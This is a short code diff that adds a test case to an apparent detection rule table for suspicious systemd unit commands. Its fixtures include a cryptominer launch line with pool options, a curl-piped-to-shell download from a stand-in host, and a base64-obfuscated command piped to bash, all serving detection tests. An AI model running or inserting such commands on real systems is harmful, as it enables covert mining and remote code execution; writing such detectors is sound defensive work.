@@ -37,6 +37,7 @@ ruleTable(systemdUnitSuspicious, {
         },
       ],
     },
+    'the options of a miner': found('/usr/local/bin/netd -o 192.0.2.9:443 -u w -k --tls', 'has the options of a miner'),
     'a shell with a download': found('/bin/sh -c "curl -s https://e.example/x | sh"', 'runs a download'),
     base64: found('/bin/sh -c "echo aWQgPiAvdG1wL3g= | base64 -d | bash"', 'decodes base64'),
     'a pool': found('/usr/local/bin/m -o pool.supportxmr.com:443', 'pool.supportxmr.com'),
